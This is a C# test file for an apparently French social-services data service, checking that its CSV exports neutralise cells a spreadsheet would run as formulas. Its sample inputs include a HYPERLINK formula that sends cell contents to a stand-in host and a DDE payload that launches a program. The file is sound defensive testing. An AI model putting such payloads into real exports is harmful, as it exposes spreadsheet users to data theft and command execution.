using Listes360.Api.Tests;
using Listes360.Domain.Csv;
using Listes360.Domain.Risk;
using Listes360.Domain.Security;
using Listes360.Imports.Simulation;
using Listes360.Risk.History;

namespace Listes360.Security.Tests;

/// <summary>
/// Issue 12, class 9: every CSV the service writes neutralises a cell a spreadsheet would run as a
/// formula (starting with = + - @, a tab or a carriage return: a quote before, the cell quoted), with
/// one shared rule (<see cref="CsvCell"/>); a lone negative number stays a number.
/// </summary>
[Collection(SecurityCollection.Name)]
public sealed class Class9CsvInjectionTests(ApiFixture api)
{
    public static readonly string[] Formulas =
    [
        "=HYPERLINK(\"http://exemple.invalid/?d=\"&A1,\"Cliquez\")", "@SUM(1+1)", "+33 6 00 00 00 00+cmd", "-2+3+cmd|' /C calc'!A0", "\tTABULÉ", "\rRETOUR",
    ];

    private static bool Runs(string cell) => cell.Length > 0 && CsvCell.FormulaStarts.Contains(cell[0]) && CsvCell.IsFormulaLike(cell);

    [Fact]
    public void A_simulated_person_named_like_a_formula_is_written_as_text()
    {
        var rows = Formulas.Select((name, i) => new SimulatedRow($"R{i}", name, "@prénom", "19900101", "=naissance", "-MDPH", null, "-5", "+commune", i, "610000184")).ToList();
        using var writer = new StringWriter();
        SimulatedCsvWriter.Write(rows, writer);
        var lines = writer.ToString().Split(Environment.NewLine).Skip(1).Where(l => l.Length > 0).ToList();

        // A name with a carriage return spans two physical lines inside its quotes: join them back.
        var text = string.Join("\n", lines);
        foreach (var name in Formulas)
            Assert.Contains("\"'" + name.Replace("\"", "\"\"") + "\"", text);
        foreach (var line in lines.Where(l => l.StartsWith('R')))
        {
            var cells = Probe.Cells(line, ';');
            Assert.DoesNotContain(cells, Runs);
            Assert.Equal("'@prénom", cells[2]);
            Assert.Equal("-5", cells[7]);
        }
    }

    [Fact]
    public void A_risk_history_cell_starting_like_a_formula_is_written_as_text()
    {
        var row = new HistoryRow(true, "=HYPERLINK(\"http://exemple.invalid\")", new DateOnly(2026, 1, 31), new RiskSnapshot { AgeYears = 30 }, false);
        var cells = Probe.Cells(RiskHistoryCsv.Line(row), ',');
        Assert.Equal(RiskHistoryCsv.Columns.Length, cells.Count);
        Assert.Equal("'=HYPERLINK(\"http://exemple.invalid\")", cells[1]);
        Assert.DoesNotContain(cells, Runs);
    }

    [Fact]
    public async Task No_cell_of_the_observatorys_exports_runs_as_a_formula()
    {
        await ObservatorySeed.WaitingPersonAsync(api, "Exportée", "1975-09-09", 79);
        foreach (var path in new[] { "/exports/rupture-risks.csv?department=61", "/exports/indicators.csv?department=61" })
        {
            var response = await api.SendAsync(new HttpRequestMessage(HttpMethod.Get, path), token: api.Token(Role.Observatory));
            Assert.True(response.Status == 200, response.Body);
            var lines = response.Body.Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
            Assert.True(lines.Length > 1, response.Body);
            Assert.All(lines, l => Assert.DoesNotContain(Probe.Cells(l, ';'), Runs));
        }
    }

    /// <summary>One rule for every writer: the quote-doubling of a CSV cell is written once, in <see cref="CsvCell"/>.</summary>
    [Fact]
    public void Every_csv_writer_of_the_service_goes_through_the_shared_cell_rule()
    {
        var src = Path.Combine(Listes360.Testing.RepositoryRoot.Find(), "src");
        var quoting = Directory.EnumerateFiles(src, "*.cs", SearchOption.AllDirectories)
            .Where(f => !f.Contains($"{Path.DirectorySeparatorChar}obj{Path.DirectorySeparatorChar}", StringComparison.Ordinal))
            .Where(f => File.ReadAllText(f).Contains("Replace(\"\\\"\", \"\\\"\\\"\"", StringComparison.Ordinal))
            .Select(f => Path.GetRelativePath(src, f).Replace('\\', '/'))
            .ToList();
        Assert.Equal(["Listes360.Domain/Csv/CsvCell.cs"], quoting);
        foreach (var writer in new[] { "Listes360.Api/Exports/RiskExports.cs", "Listes360.Imports/Simulation/SimulatedCsvWriter.cs", "Listes360.Imports/Dedup/DedupJob.cs", "Listes360.Risk/History/RiskHistoryCsv.cs" })
            Assert.Contains("CsvCell.", File.ReadAllText(Path.Combine(src, writer)));
    }
}
